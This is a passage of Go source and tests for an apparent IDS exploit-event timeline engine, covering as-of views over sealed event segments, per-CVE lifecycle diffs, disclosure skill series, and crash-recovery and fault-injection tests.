	}
	resolved := eventstore.ApplyAmendments(raw, appl)
	agg := NewAggregate()
	agg.Stats.AddSessions(v.agg.Stats.Stats().Sessions)
	agg.Stats.AddAmbiguous(v.agg.Stats.Stats().AmbiguousSessions)
	agg.Add(resolved, v.eng.rulePub)
	v.agg = agg
	v.resolved = resolved
	v.amended = len(eventstore.ResolveAmendments(appl))
	return nil
}

// Time returns the as-of instant.
func (v *View) Time() time.Time { return v.t }

// Replayed reports how many events were folded in beyond the checkpoint —
// the incremental work this view cost.
func (v *View) Replayed() int { return v.replayed }

// Amended reports the distinct sessions whose labels at this view's time
// differ from the sealed raw history — zero when no re-attribution applies.
func (v *View) Amended() int { return v.amended }

// EventCount returns the number of events in the view.
func (v *View) EventCount() int { return v.agg.EventCount() }

// Stats returns the scan statistics as of the view's time. Sessions and
// packet counters are zero: the log records attributed events, not raw
// traffic, matching wayback.ResultsFromEvents.
func (v *View) Stats() ids.ScanStats { return v.agg.Stats.Stats() }

// Timelines returns the per-CVE lifecycle timelines as of the view's time —
// identical to running the batch pipeline over only the events with
// Time <= t.
func (v *View) Timelines() []lifecycle.Timeline { return v.agg.Life.Timelines() }

// Events materializes every event in the view, canonically ordered
// (eventstore.SortEvents). This is the slow path — figure endpoints need
// the raw distribution — and is computed once per view, on demand.
func (v *View) Events() ([]ids.Event, error) {
	v.eventsOnce.Do(func() {
		if v.resolved != nil {
			v.events = v.resolved
			return
		}
		v.events, v.eventsErr = v.rawEvents()
	})
	return v.events, v.eventsErr
}

// rawEvents materializes the sealed-history event list with Time <= t,
// before any amendment overlay, canonically ordered.
func (v *View) rawEvents() ([]ids.Event, error) {
	var out []ids.Event
	collect := func(ev ids.Event) error {
		out = append(out, ev)
		return nil
	}
	for _, m := range v.segs {
		if err := m.scanRange(v.eng.fs, false, time.Time{}, v.t, collect); err != nil {
			return nil, err
		}
	}
	out = append(out, v.tail...)
	eventstore.SortEvents(out)
	return out, nil
}

// CVEEvents returns only the named CVE's events with Time <= t, canonically
// ordered. Segments whose bloom filter rules the CVE out are skipped
// without being read.
func (v *View) CVEEvents(cve string) ([]ids.Event, error) {
	if v.resolved != nil {
		// Amended view: the resolved list is already materialized and
		// sorted; segment bloom filters cannot answer for re-labeled events.
		var out []ids.Event
		for _, ev := range v.resolved {
			if ev.CVE == cve {
				out = append(out, ev)
			}
		}
		return out, nil
	}
	var out []ids.Event
	collect := func(ev ids.Event) error {
		out = append(out, ev)
		return nil
	}
	for _, m := range v.segs {
		if err := m.scanCVE(v.eng.fs, cve, v.t, collect); err != nil {
			return nil, err
		}
	}
	for _, ev := range v.tail {
		if ev.CVE == cve {
			out = append(out, ev)
		}
	}
	eventstore.SortEvents(out)
	return out, nil
}

// EventChange describes one lifecycle event's movement between two views.
type EventChange struct {
	Type EventType `json:"type"`
	// Letter is the paper's single-letter name for the event (V F D P X A).
	Letter string     `json:"letter"`
	From   *time.Time `json:"from,omitempty"` // nil when unknown at the from time
	To     *time.Time `json:"to,omitempty"`   // nil when unknown at the to time
}

// EventType aliases lifecycle.EventType for JSON-facing diff output.
type EventType = lifecycle.EventType

// CVEDiff is one CVE's lifecycle delta between two as-of views.
type CVEDiff struct {
	CVE string `json:"cve"`
	// New marks a CVE with no attributed events at the from time.
	New bool `json:"new,omitempty"`
	// EventsFrom/EventsTo are attributed exploit-event volumes.
	EventsFrom int `json:"events_from"`
	EventsTo   int `json:"events_to"`
	// Changed lists lifecycle events that appeared or moved.
	Changed []EventChange `json:"changed,omitempty"`
}

// DiffTimelines compares two sets of lifecycle timelines (from earlier and
// later views) and reports, per CVE, which lifecycle events appeared or
// moved and how the attributed event volume grew. CVEs with no change are
// omitted; the result is sorted by CVE.
func DiffTimelines(from, to []lifecycle.Timeline) []CVEDiff {
	prev := make(map[string]*lifecycle.Timeline, len(from))
	for i := range from {
		prev[from[i].CVE] = &from[i]
	}
	var out []CVEDiff
	for i := range to {
		tl := &to[i]
		p := prev[tl.CVE]
		d := CVEDiff{CVE: tl.CVE, EventsTo: tl.EventCount}
		if p == nil {
			d.New = true
		} else {
			d.EventsFrom = p.EventCount
		}
		for et := lifecycle.EventType(0); int(et) < len(tl.Events); et++ {
			toAt, toKnown := tl.Get(et)
			var fromAt time.Time
			fromKnown := false
			if p != nil {
				fromAt, fromKnown = p.Get(et)
			}
			if toKnown == fromKnown && (!toKnown || toAt.Equal(fromAt)) {
				continue
			}
			ch := EventChange{Type: et, Letter: et.Letter()}
			if fromKnown {
				at := fromAt
				ch.From = &at
			}
			if toKnown {
				at := toAt
				ch.To = &at
			}
			d.Changed = append(d.Changed, ch)
		}
		if d.New || len(d.Changed) > 0 || d.EventsTo != d.EventsFrom {
			out = append(out, d)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].CVE < out[j].CVE })
	return out
}

// SkillPoint is one sample of the disclosure skill score over time.
type SkillPoint struct {
	Date      time.Time `json:"date"`
	CVEs      int       `json:"cves"`
	Events    int       `json:"events"`
	MeanSkill float64   `json:"mean_skill"`
	Skillful  int       `json:"skillful"`
}

// SkillSeries evaluates the paper's coordination-skill score (Table 4's
// mean skill against the published baselines) at each step between from and
// to inclusive — the "how did measured skill evolve as evidence accrued"
// series. Each sample is an as-of query, so a well-checkpointed log makes
// the whole sweep cheap.
func (e *Engine) SkillSeries(from, to time.Time, step time.Duration) ([]SkillPoint, error) {
	if step <= 0 {
		return nil, fmt.Errorf("timeline: skill series step must be positive")
	}
	if to.Before(from) {
		return nil, fmt.Errorf("timeline: skill series range is inverted")
	}
	baselines := core.PublishedBaselines()
	var out []SkillPoint
	for t := from; !t.After(to); t = t.Add(step) {
		v, err := e.AsOf(t)
		if err != nil {
			return nil, err
		}
		tls := v.Timelines()
		res := core.EvaluateDesiderata(tls, baselines)
		out = append(out, SkillPoint{
			Date:      t,
			CVEs:      len(tls),
			Events:    v.EventCount(),
			MeanSkill: core.MeanSkill(res),
			Skillful:  core.SkillfulCount(res),
		})
	}
	return out, nil
}
