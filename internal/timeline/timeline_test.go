package timeline_test

import (
	"encoding/json"
	"fmt"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/eventstore"
	"repro/internal/fault"
	"repro/internal/ids"
	"repro/internal/timeline"
	"repro/wayback"
)

// The parity tests compare as-of answers against the batch pipeline run over
// the filtered event set — the ground truth the tentpole promises to match.
// The study run is expensive, so it is shared across the whole package.
var studyFix struct {
	once  sync.Once
	study *wayback.Study
	batch *wayback.Results
	err   error
}

func studyFixture(tb testing.TB) (*wayback.Study, *wayback.Results) {
	tb.Helper()
	studyFix.once.Do(func() {
		studyFix.study, studyFix.err = wayback.NewStudy(wayback.Config{Seed: 1, PipelineTimelines: true})
		if studyFix.err != nil {
			return
		}
		studyFix.batch, studyFix.err = studyFix.study.Run()
	})
	if studyFix.err != nil {
		tb.Fatal(studyFix.err)
	}
	return studyFix.study, studyFix.batch
}

func openStore(tb testing.TB, fs fault.FS) *eventstore.Store {
	tb.Helper()
	st, err := eventstore.Open("store", eventstore.Options{FS: fs})
	if err != nil {
		tb.Fatal(err)
	}
	return st
}

func openEngine(tb testing.TB, fs fault.FS, st *eventstore.Store, ckptEvery int) *timeline.Engine {
	tb.Helper()
	study, _ := studyFixture(tb)
	eng, err := study.OpenTimeline("tl", st, timeline.Config{FS: fs, CheckpointEvery: ckptEvery})
	if err != nil {
		tb.Fatal(err)
	}
	return eng
}

// feed appends events in `chunks` committed chunks, sealing a segment per
// chunk — except the final chunk, which is split into a committed-but-
// unsealed part and a published-but-uncommitted part so every read tier
// (checkpointed segments, fresh segments, committed tail, volatile tail) is
// populated.
func feed(tb testing.TB, st *eventstore.Store, eng *timeline.Engine, events []ids.Event, chunks int) {
	tb.Helper()
	n := len(events)
	per := (n + chunks - 1) / chunks
	for i := 0; i < n; i += per {
		end := i + per
		if end > n {
			end = n
		}
		last := end == n
		if last {
			mid := i + (end-i)/2
			appendCommit(tb, st, events[i:mid])
			if err := st.AppendBatch(events[mid:end]); err != nil {
				tb.Fatal(err)
			}
			return
		}
		appendCommit(tb, st, events[i:end])
		if _, err := eng.Seal(); err != nil {
			tb.Fatal(err)
		}
	}
}

func appendCommit(tb testing.TB, st *eventstore.Store, events []ids.Event) {
	tb.Helper()
	if err := st.AppendBatch(events); err != nil {
		tb.Fatal(err)
	}
	if err := st.Commit(nil); err != nil {
		tb.Fatal(err)
	}
}

func filterAsOf(events []ids.Event, t time.Time) []ids.Event {
	var out []ids.Event
	for _, ev := range events {
		if !ev.Time.After(t) {
			out = append(out, ev)
		}
	}
	return out
}

// cutPoints picks n cut times spanning the event set: quantiles of the
// distinct observed times (boundary-inclusive cuts), plus one before the
// first event and one after the last.
func cutPoints(events []ids.Event, n int) []time.Time {
	seen := map[int64]time.Time{}
	for _, ev := range events {
		seen[ev.Time.UnixNano()] = ev.Time
	}
	distinct := make([]time.Time, 0, len(seen))
	for _, t := range seen {
		distinct = append(distinct, t)
	}
	for i := 1; i < len(distinct); i++ {
		for j := i; j > 0 && distinct[j].Before(distinct[j-1]); j-- {
			distinct[j], distinct[j-1] = distinct[j-1], distinct[j]
		}
	}
	cuts := []time.Time{distinct[0].Add(-time.Hour)}
	for i := 0; i < n; i++ {
		cuts = append(cuts, distinct[i*(len(distinct)-1)/max(n-1, 1)])
	}
	return append(cuts, distinct[len(distinct)-1].Add(time.Hour))
}

func eventKey(ev ids.Event) string {
	return fmt.Sprintf("%d|%d|%s|%s|%s|%s|%d|%d",
		ev.Time.UnixNano(), ev.SID, ev.Src.String(), ev.Dst.String(),
		ev.CVE, ev.Msg, ev.Bytes, ev.Published.UnixNano())
}

func sameEventSet(tb testing.TB, label string, got, want []ids.Event) {
	tb.Helper()
	if len(got) != len(want) {
		tb.Fatalf("%s: %d events, want %d", label, len(got), len(want))
	}
	counts := map[string]int{}
	for _, ev := range want {
		counts[eventKey(ev)]++
	}
	for _, ev := range got {
		k := eventKey(ev)
		counts[k]--
		if counts[k] < 0 {
			tb.Fatalf("%s: unexpected event %s", label, k)
		}
	}
}

// checkParity asserts the as-of view at t matches the batch pipeline over
// the filtered events: timelines, stats, and Table 4 byte-for-byte.
func checkParity(tb testing.TB, study *wayback.Study, eng *timeline.Engine, events []ids.Event, t time.Time) *timeline.View {
	tb.Helper()
	v, err := eng.AsOf(t)
	if err != nil {
		tb.Fatalf("AsOf(%s): %v", t, err)
	}
	want := study.ResultsFromEvents(filterAsOf(events, t))
	got := study.ResultsFromView(v)
	if !reflect.DeepEqual(got.Timelines, want.Timelines) {
		tb.Fatalf("AsOf(%s): timelines diverge from batch pipeline (%d vs %d CVEs)",
			t, len(got.Timelines), len(want.Timelines))
	}
	if got.Stats != want.Stats {
		tb.Fatalf("AsOf(%s): stats %+v, want %+v", t, got.Stats, want.Stats)
	}
	gotT4, err := json.Marshal(got.Table4())
	if err != nil {
		tb.Fatal(err)
	}
	wantT4, err := json.Marshal(want.Table4())
	if err != nil {
		tb.Fatal(err)
	}
	if string(gotT4) != string(wantT4) {
		tb.Fatalf("AsOf(%s): Table 4 bytes diverge:\n got %s\nwant %s", t, gotT4, wantT4)
	}
	return v
}

// TestAsOfParity is the acceptance sweep: for checkpoint intervals
// {1, 3, never} and two segment sizes, every cut point must answer
// identically to a batch Study run over only the events at or before it.
func TestAsOfParity(t *testing.T) {
	study, batch := studyFixture(t)
	events := batch.Events
	configs := []struct {
		name      string
		ckptEvery int
		chunks    int
	}{
		{"ckpt1-seg9", 1, 9},
		{"ckpt3-seg9", 3, 9},
		{"nockpt-seg9", -1, 9},
		{"ckpt1-seg31", 1, 31},
		{"ckpt3-seg31", 3, 31},
		{"nockpt-seg31", -1, 31},
	}
	for _, cfg := range configs {
		t.Run(cfg.name, func(t *testing.T) {
			t.Parallel()
			fs := fault.NewSimFS(7, fault.Profile{})
			st := openStore(t, fs)
			defer st.Close()
			eng := openEngine(t, fs, st, cfg.ckptEvery)
			feed(t, st, eng, events, cfg.chunks)

			cuts := cutPoints(events, 10)
			for _, cut := range cuts {
				v := checkParity(t, study, eng, events, cut)
				if cfg.ckptEvery < 0 && v.Replayed() != len(filterAsOf(events, cut)) {
					t.Fatalf("no-checkpoint view replayed %d events, want the full %d",
						v.Replayed(), len(filterAsOf(events, cut)))
				}
			}

			// Event materialization (the figures' slow path) agrees as a
			// multiset at a middle cut and at the end.
			for _, cut := range []time.Time{cuts[len(cuts)/2], cuts[len(cuts)-1]} {
				v, err := eng.AsOf(cut)
				if err != nil {
					t.Fatal(err)
				}
				got, err := v.Events()
				if err != nil {
					t.Fatal(err)
				}
				sameEventSet(t, "Events()", got, filterAsOf(events, cut))
			}
		})
	}
}

// TestAsOfCheckpointCost pins the complexity claim: with a checkpoint per
// segment, an as-of query at the head replays only the unsealed tail, not
// the log.
func TestAsOfCheckpointCost(t *testing.T) {
	study, batch := studyFixture(t)
	events := batch.Events
	fs := fault.NewSimFS(7, fault.Profile{})
	st := openStore(t, fs)
	defer st.Close()
	eng := openEngine(t, fs, st, 1)
	feed(t, st, eng, events, 9)

	head := cutPoints(events, 2)
	v := checkParity(t, study, eng, events, head[len(head)-1])
	m := eng.Metrics()
	tail := len(events) - int(m.SealedEvents)
	if v.Replayed() != tail {
		t.Fatalf("head query replayed %d events; only the %d-event unsealed tail should remain beyond the newest checkpoint", v.Replayed(), tail)
	}
	if m.Segments == 0 || m.Checkpoints != m.Segments {
		t.Fatalf("expected a checkpoint per segment, got %d checkpoints over %d segments", m.Checkpoints, m.Segments)
	}
	if m.CheckpointAt.IsZero() || m.SealedBytes == 0 {
		t.Fatalf("metrics missing checkpoint age or sealed bytes: %+v", m)
	}
}

// TestCVEEvents checks the bloom-and-ordinal indexed per-CVE read path
// against a plain filter.
func TestCVEEvents(t *testing.T) {
	_, batch := studyFixture(t)
	events := batch.Events
	fs := fault.NewSimFS(7, fault.Profile{})
	st := openStore(t, fs)
	defer st.Close()
	eng := openEngine(t, fs, st, 1)
	feed(t, st, eng, events, 9)

	cuts := cutPoints(events, 3)
	cut := cuts[len(cuts)/2]
	v, err := eng.AsOf(cut)
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	tested := 0
	for _, ev := range events {
		if ev.CVE == "" || seen[ev.CVE] {
			continue
		}
		seen[ev.CVE] = true
		if tested++; tested > 5 {
			break
		}
		var want []ids.Event
		for _, e := range filterAsOf(events, cut) {
			if e.CVE == ev.CVE {
				want = append(want, e)
			}
		}
		got, err := v.CVEEvents(ev.CVE)
		if err != nil {
			t.Fatal(err)
		}
		sameEventSet(t, "CVEEvents("+ev.CVE+")", got, want)
	}
	if got, err := v.CVEEvents("1999-99999"); err != nil || len(got) != 0 {
		t.Fatalf("absent CVE returned %d events, err %v", len(got), err)
	}
}

// TestAsOfConcurrent runs queries against an engine that is actively
// sealing; with -race this is the engine's concurrency contract test.
func TestAsOfConcurrent(t *testing.T) {
	study, batch := studyFixture(t)
	events := batch.Events
	fs := fault.NewSimFS(7, fault.Profile{})
	st := openStore(t, fs)
	defer st.Close()
	eng := openEngine(t, fs, st, 1)

	cuts := cutPoints(events, 6)
	var wg sync.WaitGroup
	stop := make(chan struct{})
	errs := make(chan error, 4)
	for w := 0; w < 4; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; ; i++ {
				select {
				case <-stop:
					return
				default:
				}
				v, err := eng.AsOf(cuts[(i+w)%len(cuts)])
				if err != nil {
					errs <- err
					return
				}
				_ = v.Timelines()
				_ = v.Stats()
			}
		}(w)
	}
	feed(t, st, eng, events, 23)
	close(stop)
	wg.Wait()
	select {
	case err := <-errs:
		t.Fatal(err)
	default:
	}
	checkParity(t, study, eng, events, cuts[len(cuts)-1])
}

// TestRestartRecovery reopens the engine (and store) on the same filesystem
// and expects identical answers, with the checkpoint still doing its job.
func TestRestartRecovery(t *testing.T) {
	study, batch := studyFixture(t)
	events := batch.Events
	fs := fault.NewSimFS(7, fault.Profile{})
	st := openStore(t, fs)
	eng := openEngine(t, fs, st, 1)
	feed(t, st, eng, events, 9)

	cuts := cutPoints(events, 4)
	before := make([][]byte, 0, len(cuts))
	for _, cut := range cuts {
		v, err := eng.AsOf(cut)
		if err != nil {
			t.Fatal(err)
		}
		res := study.ResultsFromView(v)
		b, err := json.Marshal(res.Table4())
		if err != nil {
			t.Fatal(err)
		}
		before = append(before, b)
	}

	st.Close()
	fs.Restart()
	st = openStore(t, fs)
	defer st.Close()
	eng = openEngine(t, fs, st, 1)
	for i, cut := range cuts {
		v := checkParity(t, study, eng, st.Snapshot().Events(), cut)
		res := study.ResultsFromView(v)
		b, err := json.Marshal(res.Table4())
		if err != nil {
			t.Fatal(err)
		}
		// The pre-restart answer may cover more events (the volatile tail
		// died with the process); only cuts at or below the committed data
		// must match exactly — and all cuts must match the recovered batch
		// truth, which checkParity already enforced. For the earliest cuts
		// the two answers must agree bit-for-bit.
		if i == 0 && string(b) != string(before[i]) {
			t.Fatalf("cut %s changed across a clean restart:\n was %s\n now %s", cut, before[i], b)
		}
	}
}

// TestSealRenameFailure drives the injected-error path: a failed segment
// rename must leave no temp file, leak no handle, and leave the engine
// consistent enough to succeed on retry.
func TestSealRenameFailure(t *testing.T) {
	study, batch := studyFixture(t)
	events := batch.Events
	fs := fault.NewSimFS(7, fault.Profile{})
	st := openStore(t, fs)
	defer st.Close()
	eng := openEngine(t, fs, st, 1)
	appendCommit(t, st, events)

	handles := fs.OpenHandles()
	fs.FailWith(func(op, name string) error {
		if op == "rename" && strings.Contains(name, "segment-") {
			return fmt.Errorf("injected rename failure")
		}
		return nil
	})
	if _, err := eng.Seal(); err == nil {
		t.Fatal("Seal succeeded past an injected rename failure")
	}
	fs.FailWith(nil)
	if got := fs.OpenHandles(); got != handles {
		t.Fatalf("failed seal leaked handles: %d, had %d", got, handles)
	}
	for _, name := range fs.Files() {
		if strings.HasSuffix(name, ".tmp") {
			t.Fatalf("failed seal left temp file %s", name)
		}
	}
	if sealed, err := eng.Seal(); err != nil || !sealed {
		t.Fatalf("retry after failed seal: sealed=%v err=%v", sealed, err)
	}
	cuts := cutPoints(events, 2)
	checkParity(t, study, eng, events, cuts[len(cuts)-1])
}

// TestStrandedTmpRecovery makes the rename fail AND the cleanup fail —
// the crash shape that strands a temp file — then restarts and expects
// recovery to sweep it.
func TestStrandedTmpRecovery(t *testing.T) {
	study, batch := studyFixture(t)
	events := batch.Events
	fs := fault.NewSimFS(7, fault.Profile{})
	st := openStore(t, fs)
	eng := openEngine(t, fs, st, 1)
	appendCommit(t, st, events)

	fs.FailWith(func(op, name string) error {
		if (op == "rename" || op == "remove") && strings.Contains(name, "segment-") {
			return fmt.Errorf("injected %s failure", op)
		}
		return nil
	})
	if _, err := eng.Seal(); err == nil {
		t.Fatal("Seal succeeded past injected failures")
	}
	fs.FailWith(nil)
	stranded := false
	for _, name := range fs.Files() {
		stranded = stranded || strings.HasSuffix(name, ".tmp")
	}
	if !stranded {
		t.Fatal("test did not strand a temp file; the recovery path is untested")
	}

	st.Close()
	fs.Restart()
	st = openStore(t, fs)
	defer st.Close()
	eng = openEngine(t, fs, st, 1)
	for _, name := range fs.Files() {
		if strings.HasSuffix(name, ".tmp") {
			t.Fatalf("recovery left stranded temp file %s", name)
		}
	}
	if sealed, err := eng.Seal(); err != nil || !sealed {
		t.Fatalf("seal after recovery: sealed=%v err=%v", sealed, err)
	}
	cuts := cutPoints(events, 2)
	checkParity(t, study, eng, st.Snapshot().Events(), cuts[len(cuts)-1])
}

// TestCheckpointENOSPC fails checkpoint writes with ENOSPC: the segment must
// survive, queries must fall back to the previous checkpoint, and the next
// seal must retry the checkpoint.
func TestCheckpointENOSPC(t *testing.T) {
	study, batch := studyFixture(t)
	events := batch.Events
	fs := fault.NewSimFS(7, fault.Profile{})
	st := openStore(t, fs)
	defer st.Close()
	eng := openEngine(t, fs, st, 1)

	third := len(events) / 3
	appendCommit(t, st, events[:third])
	if _, err := eng.Seal(); err != nil {
		t.Fatal(err)
	}
	if m := eng.Metrics(); m.Checkpoints != 1 {
		t.Fatalf("expected 1 checkpoint, have %d", m.Checkpoints)
	}

	fs.FailWith(func(op, name string) error {
		if op == "write" && strings.Contains(name, "ckpt-") {
			return fmt.Errorf("injected ENOSPC")
		}
		return nil
	})
	appendCommit(t, st, events[third:2*third])
	sealed, err := eng.Seal()
	if err == nil || !sealed {
		t.Fatalf("want sealed segment with checkpoint error, got sealed=%v err=%v", sealed, err)
	}
	fs.FailWith(nil)
	m := eng.Metrics()
	if m.Segments != 2 || m.Checkpoints != 1 {
		t.Fatalf("after ENOSPC: %d segments, %d checkpoints; want 2 and 1", m.Segments, m.Checkpoints)
	}
	for _, name := range fs.Files() {
		if strings.HasSuffix(name, ".tmp") {
			t.Fatalf("failed checkpoint left temp file %s", name)
		}
	}
	// Queries fall back to checkpoint 0 and stay correct.
	cuts := cutPoints(events[:2*third], 2)
	checkParity(t, study, eng, events[:2*third], cuts[len(cuts)-1])

	// Restart: recovery must come up on the surviving checkpoint.
	st.Close()
	fs.Restart()
	st = openStore(t, fs)
	t.Cleanup(func() { st.Close() })
	eng = openEngine(t, fs, st, 1)
	checkParity(t, study, eng, st.Snapshot().Events(), cuts[len(cuts)-1])

	// The next seal retries and the checkpoint ladder catches up.
	appendCommit(t, st, events[2*third:])
	if _, err := eng.Seal(); err != nil {
		t.Fatal(err)
	}
	if m := eng.Metrics(); m.Checkpoints != 2 {
		t.Fatalf("checkpoint did not catch up after ENOSPC: %d", m.Checkpoints)
	}
}

// TestCorruptCheckpointFallback corrupts the newest checkpoint on disk;
// recovery must discard it and answer from the older one.
func TestCorruptCheckpointFallback(t *testing.T) {
	study, batch := studyFixture(t)
	events := batch.Events
	fs := fault.NewSimFS(7, fault.Profile{})
	st := openStore(t, fs)
	eng := openEngine(t, fs, st, 1)
	feed(t, st, eng, events, 6)

	var newest string
	for _, name := range fs.Files() {
		if strings.Contains(name, "ckpt-") {
			newest = name
		}
	}
	if newest == "" {
		t.Fatal("no checkpoint written")
	}
	if err := fs.WriteFile(newest, []byte("not a checkpoint"), 0o644); err != nil {
		t.Fatal(err)
	}

	st.Close()
	fs.Restart()
	st = openStore(t, fs)
	defer st.Close()
	eng = openEngine(t, fs, st, 1)
	for _, name := range fs.Files() {
		if name == newest {
			t.Fatalf("recovery kept the corrupt checkpoint %s", name)
		}
	}
	cuts := cutPoints(events, 3)
	checkParity(t, study, eng, st.Snapshot().Events(), cuts[len(cuts)-1])
}

// TestCrashRestartSweep drives random crash points through the whole stack
// — store appends, commits, seals, checkpoints — and at every recovery
// expects the as-of path to agree with the batch pipeline over whatever the
// store recovered.
func TestCrashRestartSweep(t *testing.T) {
	study, batch := studyFixture(t)
	events := batch.Events
	for seed := int64(0); seed < 6; seed++ {
		seed := seed
		t.Run(fmt.Sprintf("seed%d", seed), func(t *testing.T) {
			t.Parallel()
			fs := fault.NewSimFS(seed, fault.Profile{CrashEvery: 60})
			var st *eventstore.Store
			var eng *timeline.Engine
			// reopen recovers both processes, retrying through crash points
			// that fire during recovery itself (recovery is I/O too).
			reopen := func() {
				for attempt := 0; ; attempt++ {
					if attempt > 500 {
						t.Fatal("recovery never completed without crashing")
					}
					if fs.Crashed() {
						fs.Restart()
					}
					var err error
					if st, err = eventstore.Open("store", eventstore.Options{FS: fs}); err != nil {
						continue
					}
					if eng, err = study.OpenTimeline("tl", st, timeline.Config{FS: fs, CheckpointEvery: 1}); err != nil {
						continue
					}
					if fs.Crashed() {
						continue
					}
					for _, name := range fs.Files() {
						if strings.HasSuffix(name, ".tmp") {
							t.Fatalf("recovery left %s", name)
						}
					}
					return
				}
			}
			reopen()

			per := len(events)/17 + 1
			for i := 0; i < len(events); {
				end := i + per
				if end > len(events) {
					end = len(events)
				}
				if err := st.AppendBatch(events[i:end]); err != nil {
					reopen() // crashed mid-append: the batch was not acked, retry it
					continue
				}
				if err := st.Commit(nil); err != nil {
					reopen()
					continue
				}
				if _, err := eng.Seal(); err != nil {
					reopen()
					continue
				}
				i = end
			}
			if fs.Crashed() {
				reopen()
			}

			// Ground truth is what the store recovered; the timeline must
			// agree with the batch pipeline over it at every cut. A crash
			// point can fire mid-verification too — power-cycle and retry
			// the cut, which must then hold over the re-recovered state.
			for attempt := 0; ; attempt++ {
				if attempt > 500 {
					t.Fatal("verification never completed without crashing")
				}
				recovered := st.Snapshot().Events()
				if len(recovered) == 0 {
					t.Fatal("store recovered no events; the sweep exercised nothing")
				}
				ok := true
				for _, cut := range cutPoints(recovered, 4) {
					v, err := eng.AsOf(cut)
					if err != nil {
						ok = false
						break
					}
					want := study.ResultsFromEvents(filterAsOf(recovered, cut))
					got := study.ResultsFromView(v)
					if !reflect.DeepEqual(got.Timelines, want.Timelines) || got.Stats != want.Stats {
						t.Fatalf("AsOf(%s) diverges over recovered events", cut)
					}
				}
				if ok {
					break
				}
				if !fs.Crashed() {
					t.Fatal("as-of query failed without a crash")
				}
				reopen()
			}
			st.Close()
			if fs.Crashed() { // Close may have tripped one last crash point
				fs.Restart()
			}
			if got := fs.OpenHandles(); got != 0 {
				t.Fatalf("%d handles leaked", got)
			}
		})
	}
}

// TestDiffTimelines exercises the lifecycle diff between two cuts.
func TestDiffTimelines(t *testing.T) {
	study, batch := studyFixture(t)
	events := batch.Events
	fs := fault.NewSimFS(7, fault.Profile{})
	st := openStore(t, fs)
	defer st.Close()
	eng := openEngine(t, fs, st, 1)
	feed(t, st, eng, events, 9)

	cuts := cutPoints(events, 4)
	early, late := cuts[1], cuts[len(cuts)-1]
	vFrom, err := eng.AsOf(early)
	if err != nil {
		t.Fatal(err)
	}
	vTo, err := eng.AsOf(late)
	if err != nil {
		t.Fatal(err)
	}
	diff := timeline.DiffTimelines(vFrom.Timelines(), vTo.Timelines())
	if len(diff) == 0 {
		t.Fatal("no differences between an early and a late cut")
	}
	fromByCVE := map[string]bool{}
	for _, tl := range vFrom.Timelines() {
		fromByCVE[tl.CVE] = true
	}
	for _, d := range diff {
		if d.New == fromByCVE[d.CVE] {
			t.Fatalf("%s: New=%v but present-at-from=%v", d.CVE, d.New, fromByCVE[d.CVE])
		}
		if d.EventsTo < d.EventsFrom {
			t.Fatalf("%s: event count went backwards (%d -> %d)", d.CVE, d.EventsFrom, d.EventsTo)
		}
	}
	// Identical inputs diff to nothing.
	if d := timeline.DiffTimelines(vTo.Timelines(), vTo.Timelines()); len(d) != 0 {
		t.Fatalf("self-diff returned %d entries", len(d))
	}
	_ = study
}

// TestSkillSeries checks the as-of skill sweep is monotone in coverage and
// ends at the batch answer.
func TestSkillSeries(t *testing.T) {
	study, batch := studyFixture(t)
	events := batch.Events
	fs := fault.NewSimFS(7, fault.Profile{})
	st := openStore(t, fs)
	defer st.Close()
	eng := openEngine(t, fs, st, 1)
	feed(t, st, eng, events, 9)

	cuts := cutPoints(events, 2)
	first, last := cuts[0], cuts[len(cuts)-1]
	step := last.Sub(first) / 8
	series, err := eng.SkillSeries(first, last, step)
	if err != nil {
		t.Fatal(err)
	}
	if len(series) < 8 {
		t.Fatalf("series has %d points", len(series))
	}
	for i := 1; i < len(series); i++ {
		if series[i].Events < series[i-1].Events || series[i].CVEs < series[i-1].CVEs {
			t.Fatalf("coverage went backwards at point %d: %+v -> %+v", i, series[i-1], series[i])
		}
	}
	want := study.ResultsFromEvents(filterAsOf(events, last))
	lastPoint := series[len(series)-1]
	if got := want.MeanSkill(); lastPoint.MeanSkill != got {
		t.Fatalf("final skill %v, batch says %v", lastPoint.MeanSkill, got)
	}
	if _, err := eng.SkillSeries(last, first, step); err == nil {
		t.Fatal("inverted range accepted")
	}
	if _, err := eng.SkillSeries(first, last, 0); err == nil {
		t.Fatal("zero step accepted")
	}
}
