package timeline_test

import (
	"path/filepath"
	"testing"
	"time"

	"repro/internal/eventstore"
	"repro/internal/ids"
	"repro/internal/packet"
	"repro/internal/timeline"
)

// TestViewOverlaysAmendments drives the retroactive re-attribution read
// path: after a rescan writes amendments, an as-of view must answer with the
// re-labeled history — stats, timelines, per-CVE events, and diffs — while
// the sealed segments keep the raw record.
func TestViewOverlaysAmendments(t *testing.T) {
	dir := t.TempDir()
	st, err := eventstore.Open(filepath.Join(dir, "store"), eventstore.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()

	basePub := time.Date(2022, 6, 1, 0, 0, 0, 0, time.UTC)
	earlyPub := time.Date(2021, 9, 1, 0, 0, 0, 0, time.UTC)
	t1 := time.Date(2022, 3, 10, 0, 0, 0, 0, time.UTC)
	t2 := t1.Add(time.Hour)
	src := func(port uint16) packet.Endpoint {
		return packet.Endpoint{Addr: packet.MustAddr("203.0.113.7"), Port: port}
	}
	dst := packet.Endpoint{Addr: packet.MustAddr("18.204.7.9"), Port: 80}

	// Session 1 matched at ingest; session 2 did not (no raw event).
	raw := ids.Event{
		Time: t1, Src: src(40001), Dst: dst,
		SID: 100, Published: basePub, CVE: "2022-1000", Msg: "base", Bytes: 64,
	}
	appendCommit(t, st, []ids.Event{raw})

	eng, err := timeline.Open(timeline.Config{
		Dir:     filepath.Join(dir, "tl"),
		Store:   st,
		RulePub: map[int]time.Time{100: basePub},
	})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := eng.Seal(); err != nil {
		t.Fatal(err)
	}

	at := t2.Add(time.Hour)
	before, err := eng.AsOf(at)
	if err != nil {
		t.Fatal(err)
	}
	if before.Amended() != 0 || before.EventCount() != 1 {
		t.Fatalf("pre-amendment view: amended %d events %d", before.Amended(), before.EventCount())
	}
	beforeTLs := before.Timelines()

	// A later ruleset publication re-attributed both sessions: session 1
	// re-labels to an earlier-published rule, session 2 gains a label.
	amends := []eventstore.Amendment{
		{
			Event: ids.Event{
				Time: t1, Src: src(40001), Dst: dst,
